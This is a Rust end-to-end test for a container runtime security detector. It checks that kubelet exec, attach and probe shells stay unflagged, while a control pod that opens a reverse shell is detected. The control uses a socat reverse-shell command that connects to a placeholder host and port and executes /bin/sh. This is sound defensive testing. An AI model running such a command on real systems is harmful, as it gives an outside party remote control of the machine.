//! What a kubelet does with shells is no attack: exec and attach with streams, probes.

use std::time::Duration;

use anyhow::{Result, ensure};
use e2e::acceptance::{Bench, Product, Shell, vedette_binary};
use e2e::node_or_skip;

const LIMIT: Duration = Duration::from_secs(10);

#[test]
fn exec_attach_and_probes_are_quiet() -> Result<()> {
    let Some(node) = node_or_skip()? else { return Ok(()) };
    let product = Product::start(&vedette_binary()?, &node.folder().join("vedette"))?;
    let watch = product.watch();
    let bench = Bench::ground_truth(&node, &watch)?;

    let (pod, container) = bench.pod("kubelet", "exec sh")?;
    for (index, (command, terminal)) in
        [("/bin/sh", true), ("/bin/sh", false), ("/usr/bin/bash", true), ("/usr/bin/bash", false)]
            .iter()
            .enumerate()
    {
        let mut stream = container.exec_streaming(&[command, "-i"], *terminal)?;
        stream.say(&format!("expr {index} + 4000\n"))?;
        stream.wait_for(&(index + 4000).to_string())?;
        // A command that talks to the network is not yet a shell that listens to it.
        stream.say("echo x | socat - TCP:127.0.0.1:9,connect-timeout=1; expr 70 + 7\n")?;
        stream.wait_for("77")?;
    }
    let mut attached = container.attach(false)?;
    attached.say("expr 500 + 55\n")?;
    attached.wait_for("555")?;
    for _ in 0..10 {
        ensure!(container.exec(&["/bin/sh", "-c", "expr 1 + 1"], LIMIT)?.stdout == "2\n");
        ensure!(container.exec(&["/usr/bin/bash", "-c", "read -r x; echo done"], LIMIT)?.stdout == "done\n");
    }

    // The same watch does find a shell, so its silence means something.
    let shell = Shell::start(&bench, "control", "exec socat TCP:{HOST}:{PORT} EXEC:/bin/sh")?;
    shell.prove()?;
    std::thread::sleep(Duration::from_secs(2));
    let all = watch.all()?;
    let quiet: Vec<_> =
        all.iter().filter(|found| found.pod() != "control").map(|found| &found.finding).collect();
    ensure!(quiet.is_empty(), "false: {quiet:#?}");
    ensure!(all.len() == 1, "{} findings for the control", all.len());
    shell.remove()?;
    pod.remove()
}
